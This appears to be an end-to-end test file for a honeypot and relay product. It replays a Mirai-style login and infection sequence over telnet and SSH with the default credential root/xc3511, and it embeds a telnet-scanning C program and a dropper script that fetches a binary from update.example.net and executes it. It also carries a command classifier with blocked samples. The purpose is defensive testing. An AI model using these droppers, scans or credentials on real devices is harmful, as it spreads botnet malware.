/**
 * Acceptance 1 of issue 6, through the product: `moat relay` and `moat honeypot` run from their
 * configuration files; a real telnet client (under `script`, on a pseudo-terminal) and a real OpenSSH
 * client (under `sshpass`) log in and run a Mirai-style sequence. The samples they fetch from a
 * loopback server are captured, analysed in the sandbox and labelled; read-only commands are answered
 * by a device stand-in in its own network namespace through the TLS frame tunnel (scrubbed); the
 * device's own log proves that no blocked command ever reached it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Database from 'better-sqlite3';
import {
  RelayClient,
  classifyCommand,
  commandNames,
  DeviceSelector,
} from '../../src/honeypot/relay/index.js';
import { checkPrivacy, Pseudonymiser } from '../../src/dataset/index.js';
import { sandboxAvailable, type BehaviourReport } from '../../src/sandbox/index.js';
import { fileServer, tempDir } from './helpers.js';
import { TerminalClient } from './terminal-client.js';

const MOAT = fileURLToPath(new URL('../../../bin/moat.js', import.meta.url));

const BOT_C = `
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <fcntl.h>
int main(void) {
  char ip[32];
  for (int i = 1; i <= 12; i++) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a; memset(&a, 0, sizeof a);
    a.sin_family = AF_INET; a.sin_port = htons(23);
    snprintf(ip, sizeof ip, "198.51.100.%d", i); inet_pton(AF_INET, ip, &a.sin_addr);
    fcntl(s, F_SETFL, O_NONBLOCK); connect(s, (struct sockaddr *)&a, sizeof a); close(s);
  }
  return 0;
}
`;
const DROPPER =
  '#!/bin/sh\ncd /tmp/sb\ncurl -s -o .x http://update.example.net/bins/x86\nchmod 777 .x\n./.x\n';

test('classification: read-only passes, every other class is blocked', () => {
  for (const l of ['uname -a', 'cat /proc/cpuinfo', 'ps | grep x', 'ifconfig'])
    assert.equal(classifyCommand(l).cls, 'read-only', l);
  const blocked: Array<[string, string]> = [
    ['wget http://x/y', 'network'],
    ['chmod 777 .b', 'write'],
    ['./.b telnet', 'execute'],
    ['echo x > /tmp/f', 'write'],
    ['/bin/busybox ECCHI', 'execute'],
    ['enable', 'config'],
    ['cat /etc/shadow', 'config'],
    ['frobnicate', 'unknown'],
    ['cat $(wget x)', 'execute'],
    ["echo -ne '\\x7f' ", 'write'],
  ];
  for (const [l, cls] of blocked) assert.equal(classifyCommand(l).cls, cls, l);
  assert.deepEqual(commandNames('ps | grep x; /bin/cat y'), ['ps', 'grep', 'cat']);
});

test('device choice (A-74): protocol, interaction, capacity, one device per session', () => {
  const sel = new DeviceSelector([
    { name: 'cam-1', protocol: 'shell', host: 'h', port: 1, commands: ['uname', 'cat'], capacity: 1 },
    { name: 'cam-2', protocol: 'shell', host: 'h', port: 2, capacity: 2 },
    { name: 'sensor', protocol: 'mqtt', host: 'h', port: 3 },
  ]);
  assert.equal(sel.acquire({ protocol: 'mqtt', session: 's0' })?.name, 'sensor');
  // cam-1 cannot answer ps (interaction), so only cam-2 can
  const a = sel.acquire({ protocol: 'shell', session: 's1', commands: ['ps'] })!;
  assert.equal(a.name, 'cam-2');
  // s2 goes to the idle cam-1 (load), s1 stays on cam-2 (affinity) even for uname
  const b = sel.acquire({ protocol: 'shell', session: 's2', commands: ['uname'] })!;
  assert.equal(b.name, 'cam-1');
  const c = sel.acquire({ protocol: 'shell', session: 's1', commands: ['uname'] })!;
  assert.equal(c.name, 'cam-2');
  // cam-2 is full (2/2) and cam-1 is full (1/1): nothing for a third request
  assert.equal(sel.acquire({ protocol: 'shell', session: 's3', commands: ['cat'] }), null);
  sel.done(b);
  assert.equal(sel.acquire({ protocol: 'shell', session: 's3', commands: ['cat'] })?.name, 'cam-1');
  assert.equal(sel.acquire({ protocol: 'http', session: 's4' }), null, 'no device speaks http');
  assert.throws(
    () =>
      new DeviceSelector([
        { name: 'x', protocol: 'shell', host: 'h', port: 1 },
        { name: 'x', protocol: 'mqtt', host: 'h', port: 2 },
      ]),
    /configured twice/,
  );
});

function missingTools(): string | null {
  for (const tool of ['telnet', 'ssh', 'sshpass', 'script', 'gcc']) {
    try {
      execFileSync('sh', ['-c', `command -v ${tool}`], { stdio: 'ignore' });
    } catch {
      return tool;
    }
  }
  return null;
}

/** Starts a moat sub-command; resolves once its stderr has shown every pattern. */
function startMoat(
  args: string[],
  patterns: RegExp[],
): Promise<{ child: ChildProcess; matches: RegExpExecArray[]; stderr: () => string }> {
  const child = spawn(process.execPath, [MOAT, ...args], {
    stdio: ['ignore', 'ignore', 'pipe'],
    detached: true,
  });
  let err = '';
  return new Promise((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`moat ${args[0]} did not start: ${err}`)), 20_000);
    child.stderr!.on('data', (d: Buffer) => {
      err += d.toString();
      const ms = patterns.map((p) => p.exec(err));
      if (ms.every(Boolean)) {
        clearTimeout(t);
        resolve({ child, matches: ms as RegExpExecArray[], stderr: () => err });
      }
    });
    child.once('exit', (code) => {
      clearTimeout(t);
      reject(new Error(`moat ${args[0]} exited ${code}: ${err}`));
    });
  });
}

function stop(child: ChildProcess | undefined, signal: NodeJS.Signals = 'SIGKILL'): void {
  if (child?.pid && child.exitCode === null && child.signalCode === null) {
    try {
      process.kill(-child.pid, signal);
    } catch {
      /* gone */
    }
  }
}

/** Resolves when the process has exited, or after `ms`. */
function exited(child: ChildProcess | undefined, ms: number): Promise<void> {
  if (!child || child.exitCode !== null || child.signalCode !== null) return Promise.resolve();
  return new Promise((resolve) => {
    const t = setTimeout(resolve, ms);
    child.once('exit', () => {
      clearTimeout(t);
      resolve();
    });
  });
}

async function waitFor<T>(what: string, get: () => T | undefined, ms: number): Promise<T> {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = get();
    if (v !== undefined) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

const READ_ONLY = ['uname -a', 'cat /proc/cpuinfo', 'ifconfig', 'cat /etc/device.conf'];

/** The Mirai-style sequence: checks, read-only probing, fetch, chmod, execute, clean-up. */
function miraiSequence(url: string, file: string): string[] {
  return [
    'enable',
    'system',
    'shell',
    'sh',
    '/bin/busybox ECCHI',
    ...READ_ONLY,
    'cd /tmp || cd /var/run',
    `/bin/busybox wget ${url} -O ${file}`,
    `chmod 777 ${file}`,
    `./${file} telnet.x86`,
    "echo -ne '\\x7f\\x45\\x4c\\x46' > .e",
    `rm -f ${file}`,
  ];
}

/** Logs in with the client, runs the lines, returns each line's output (up to the next prompt). */
async function runSession(
  c: TerminalClient,
  login: boolean,
  lines: string[],
): Promise<Record<string, string>> {
  if (login) {
    await c.until('login: ');
    c.type('root');
    await c.until('Password: ');
    c.type('xc3511');
  }
  await c.until('# ');
  const out: Record<string, string> = {};
  for (const line of lines) {
    c.type(line);
    out[line] = (await c.until('# ')).replace(/\r/g, '');
  }
  c.type('exit');
  await c.waitExit();
  return out;
}

function assertDeviceAnswered(out: Record<string, string>, who: string, scrub: Pseudonymiser): void {
  assert.match(out['/bin/busybox ECCHI'], /ECCHI: applet not found/, who);
  // read-only commands were answered by the real device (its kernel is 3.18.20), scrubbed
  assert.match(out['uname -a'], /3\.18\.20 .* armv7l GNU\/Linux/, `${who}: ${out['uname -a']}`);
  assert.ok(!out['uname -a'].includes('cam-frontdoor'), who);
  assert.ok(!out['cat /proc/cpuinfo'].includes('HX3518E0021937'), who);
  assert.match(out['cat /proc/cpuinfo'], /Hisilicon hi3518ev200/, who);
  assert.ok(!out.ifconfig.includes('3C:EF:8C:11:22:33') && !out.ifconfig.includes('192.168.7.41'), who);
  assert.ok(!/frontdoor2023|jane\.doe/.test(out['cat /etc/device.conf']), who);
  // the privacy check, knowing the device's identifiers and their keyed fakes, finds none of them
  assert.deepEqual(
    checkPrivacy(Object.values(out).join('\n'), scrub).filter(
      (f) => f.kind !== 'ipv4' || f.value !== '127.0.0.1',
    ),
    [],
    who,
  );
}

test('acceptance 1: real telnet and OpenSSH clients against `moat honeypot` + `moat relay`', async (t) => {
  if (process.getuid?.() !== 0) return t.skip('needs root for the device namespace and the sandbox');
  const missing = missingTools();
  if (missing) return t.skip(`${missing} not installed (scripts/setup.sh installs it)`);
  const id = randomBytes(2).toString('hex');
  const ns = `moat-hp-${id}`;
  const third = 100 + (parseInt(id, 16) % 150);
  const hostIp = `10.79.${third}.1`;
  const devIp = `10.79.${third}.2`;
  const work = tempDir('e2e');
  const deviceLog = join(work, 'device.log');
  writeFileSync(deviceLog, '');
  const procs: Array<ChildProcess | undefined> = [];
  const cleanups: Array<() => Promise<void> | void> = [];
  try {
    // the real device stand-in, in its own network namespace behind a veth pair
    execFileSync('ip', ['netns', 'add', ns]);
    cleanups.push(() => void execFileSync('ip', ['netns', 'del', ns]));
    execFileSync('ip', ['link', 'add', `${ns}h`, 'type', 'veth', 'peer', 'name', `${ns}d`]);
    cleanups.push(() => {
      try {
        execFileSync('ip', ['link', 'del', `${ns}h`], { stdio: 'ignore' });
      } catch {
        /* removed with the namespace */
      }
    });
    execFileSync('ip', ['link', 'set', `${ns}d`, 'netns', ns]);
    execFileSync('ip', ['addr', 'add', `${hostIp}/30`, 'dev', `${ns}h`]);
    execFileSync('ip', ['link', 'set', `${ns}h`, 'up']);
    execFileSync('ip', ['-n', ns, 'addr', 'add', `${devIp}/30`, 'dev', `${ns}d`]);
    execFileSync('ip', ['-n', ns, 'link', 'set', `${ns}d`, 'up']);
    execFileSync('ip', ['-n', ns, 'link', 'set', 'lo', 'up']);
    const standin = fileURLToPath(new URL('../../src/honeypot/relay/device-standin.js', import.meta.url));
    const device = spawn('ip', ['netns', 'exec', ns, process.execPath, standin, '2323', deviceLog, devIp], {
      detached: true,
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    procs.push(device);
    await new Promise<void>((resolve, reject) => {
      device.stdout!.once('data', () => resolve());
      device.once('exit', () => reject(new Error('device stand-in exited')));
    });

    // `moat relay` from its configuration: the PSK file, the devices
    const psk = randomBytes(32).toString('hex');
    writeFileSync(join(work, 'relay.key'), psk + '\n');
    const scrubKey = randomBytes(32);
    writeFileSync(join(work, 'scrub.key'), scrubKey.toString('hex'));
    const scrub = new Pseudonymiser(scrubKey);
    scrub.mac('3C:EF:8C:11:22:33');
    for (const ip of ['192.168.7.41', '192.168.7.255']) scrub.ipv4(ip);
    const endLog = join(work, 'device-end.jsonl');
    writeFileSync(
      join(work, 'relay.yaml'),
      [
        'listen: { host: 127.0.0.1, port: 0 }',
        `keyFile: ${join(work, 'relay.key')}`,
        `log: ${endLog}`,
        'devices:',
        `  - { name: cam-1, protocol: shell, host: ${devIp}, port: 2323, commands: [uname, cat, ifconfig, ps], capacity: 2 }`,
        `  - { name: sensor-1, protocol: mqtt, host: ${devIp}, port: 1883 }`,
      ].join('\n') + '\n',
    );
    const end = await startMoat(
      ['relay', '--config', join(work, 'relay.yaml')],
      [/listening on 127\.0\.0\.1:(\d+), 2 device\(s\), fingerprint ([0-9A-F:]{95})/],
    );
    procs.push(end.child);
    const endPort = Number(end.matches[0][1]);
    const fingerprint = end.matches[0][2];
    // a honeypot with the wrong key is refused (and the refusal is logged for the security component)
    const intruder = new RelayClient('intruder', randomBytes(32), fingerprint);
    await assert.rejects(intruder.connect(endPort), /refused registration/);
    intruder.close();

    // the loader's file server on loopback: an x86-64 scanner and a dropper script
    const src = join(work, 'bot.c');
    writeFileSync(src, BOT_C);
    execFileSync('gcc', ['-O1', '-o', join(work, 'bot'), src], { stdio: 'pipe' });
    const bot = readFileSync(join(work, 'bot'));
    const files = await fileServer({ '/bins/bot.x86': bot, '/bins/dropper.sh': Buffer.from(DROPPER) });
    cleanups.push(() => files.close());

    // `moat honeypot` from its configuration, relay included
    const reports = join(work, 'reports');
    const eveFile = join(work, 'eve.json');
    const dbFile = join(work, 'moat.db');
    writeFileSync(
      join(work, 'honeypot.yaml'),
      [
        'bind: 127.0.0.1',
        'telnet: [0]',
        'ssh: [0]',
        'http: []',
        'mqtt: []',
        `downloadScope: ["127.0.0.1/32:${files.port}"]`,
        `quarantineDir: ${join(work, 'quarantine')}`,
        `database: ${dbFile}`,
        `eve: ${eveFile}`,
        `sandbox: { enabled: true, timeoutSeconds: 5, reportDir: ${reports} }`,
        'timing: { scale: 0.02, seed: 1 }',
        'relay:',
        '  id: hp-dmz-1',
        `  deviceEnd: { host: 127.0.0.1, port: ${endPort}, fingerprint: "${fingerprint}" }`,
        `  keyFile: ${join(work, 'relay.key')}`,
        `  pseudonymKeyFile: ${join(work, 'scrub.key')}`,
        '  scrubNames: [cam-frontdoor]',
      ].join('\n') + '\n',
    );
    const hp = await startMoat(
      ['honeypot', '--config', join(work, 'honeypot.yaml')],
      [
        /telnet on 127\.0\.0\.1:(\d+)/,
        /ssh on 127\.0\.0\.1:(\d+)/,
        /relay connected: cam-1\/shell, sensor-1\/mqtt/,
      ],
    );
    procs.push(hp.child);
    const telnetPort = Number(hp.matches[0][1]);
    const sshPort = Number(hp.matches[1][1]);

    // the attacker over a real telnet client
    const telnet = TerminalClient.start('script', ['-qfec', `telnet 127.0.0.1 ${telnetPort}`, '/dev/null']);
    cleanups.push(() => telnet.kill());
    const viaTelnet = await runSession(
      telnet,
      true,
      miraiSequence(`http://127.0.0.1:${files.port}/bins/bot.x86`, '.b'),
    );
    assert.match(telnet.transcript, /Connected to 127\.0\.0\.1/);
    assertDeviceAnswered(viaTelnet, 'telnet', scrub);
    assert.match(
      viaTelnet[`/bin/busybox wget http://127.0.0.1:${files.port}/bins/bot.x86 -O .b`],
      /100% \|\*+\|/,
    );

    // … and over a real OpenSSH client with a password
    const ssh = TerminalClient.start('sshpass', [
      '-p',
      'xc3511',
      'ssh',
      '-tt',
      '-p',
      String(sshPort),
      '-o',
      'StrictHostKeyChecking=no',
      '-o',
      'UserKnownHostsFile=/dev/null',
      '-o',
      'PubkeyAuthentication=no',
      '-o',
      'PreferredAuthentications=password',
      'root@127.0.0.1',
    ]);
    cleanups.push(() => ssh.kill());
    const viaSsh = await runSession(
      ssh,
      false,
      miraiSequence(`http://127.0.0.1:${files.port}/bins/dropper.sh`, '.d'),
    );
    assertDeviceAnswered(viaSsh, 'ssh', scrub);

    // blocked commands never reached the device: its own log holds exactly the read-only lines
    const seen = readFileSync(deviceLog, 'utf8').split('\n').filter(Boolean);
    assert.deepEqual(seen, [...READ_ONLY, ...READ_ONLY]);
    for (const line of miraiSequence('x', 'y'))
      if (!READ_ONLY.includes(line))
        assert.ok(!seen.includes(line), `blocked line reached the device: ${line}`);
    const endEvents = readFileSync(endLog, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const regs = endEvents.filter((e) => e.event === 'registration');
    assert.deepEqual(
      regs.map((r) => [r.honeypot, r.accepted]),
      [
        ['intruder', false],
        ['hp-dmz-1', true],
      ],
    );
    const fwd = endEvents.filter((e) => e.event === 'forward');
    assert.equal(fwd.length, 8);
    assert.ok(fwd.every((f) => f.device === 'cam-1' && f.ok === true));
    assert.equal(new Set(fwd.map((f) => f.session)).size, 2, 'one honeypot instance per client');

    // both samples captured, analysed in the sandbox (user namespace) and labelled
    const sha = (b: Buffer | string): string => createHash('sha256').update(b).digest('hex');
    const reportOf = (b: Buffer | string): string => join(reports, `${sha(b)}.report.json`);
    await waitFor(
      'sandbox reports',
      () => (existsSync(reportOf(bot)) && existsSync(reportOf(DROPPER)) ? true : undefined),
      90_000,
    );
    assert.equal(files.hits.length, 2);
    const elf = JSON.parse(readFileSync(reportOf(bot), 'utf8')) as BehaviourReport;
    const script = JSON.parse(readFileSync(reportOf(DROPPER), 'utf8')) as BehaviourReport;
    assert.equal(elf.static.fileType, 'elf64-x86-64-little');
    assert.equal(script.static.fileType, 'script-shell');
    assert.ok(script.labels.includes('downloader'), JSON.stringify(script.labels));
    const dynamic = sandboxAvailable() === null;
    if (dynamic) {
      assert.ok(elf.dynamic?.ran, 'the ELF ran in the sandbox');
      assert.ok(elf.labels.includes('scanner'), JSON.stringify(elf.labels));
      assert.equal(elf.dynamic?.identity?.uidMap, '0 65534 1', 'as root of its own user namespace');
      assert.ok(script.dynamic?.sink.some((s) => s.kind === 'http' && s.url === '/bins/x86'));
    }

    // the product's records: EVE events and SQLite instances
    stop(hp.child, 'SIGTERM');
    await new Promise((r) => hp.child.once('exit', r));
    const eve = readFileSync(eveFile, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map(
        (l) => JSON.parse(l) as { event_type: string; honeypot?: Record<string, unknown>; sandbox?: unknown },
      );
    const hpEvents = eve.filter((e) => e.event_type === 'honeypot').map((e) => e.honeypot!);
    assert.ok(hpEvents.some((e) => e.action === 'relay_connected'));
    const routes = hpEvents
      .filter((e) => e.action === 'command')
      .map((e) => `${String(e.route)}:${String(e.input)}`);
    assert.ok(
      routes.includes('device:uname -a') && routes.includes('blocked:chmod 777 .b'),
      routes.join('\n'),
    );
    assert.ok(routes.includes('blocked:./.d telnet.x86'));
    const sources = hpEvents.filter((e) => e.action === 'sample').map((e) => String(e.source));
    assert.ok(
      sources.some((s) => s.endsWith('/bins/bot.x86')) && sources.some((s) => s.endsWith('/bins/dropper.sh')),
    );
    assert.ok(eve.filter((e) => e.event_type === 'sandbox').length >= 2);
    const db = new Database(dbFile, { readonly: true });
    const services = db.prepare('SELECT service FROM honeypot_instances ORDER BY service').all() as Array<{
      service: string;
    }>;
    db.close();
    assert.deepEqual(
      services.map((s) => s.service),
      ['ssh', 'telnet'],
    );
  } finally {
    // SIGTERM first: `moat honeypot` lets running sandbox analyses tear their namespaces down
    for (const p of procs.reverse()) stop(p, 'SIGTERM');
    for (const p of procs) await exited(p, 8000);
    for (const p of procs) stop(p);
    for (const f of cleanups.reverse()) {
      try {
        await f();
      } catch {
        /* best effort */
      }
    }
  }
  assert.ok(!execFileSync('ip', ['netns', 'list'], { encoding: 'utf8' }).includes(ns));
});
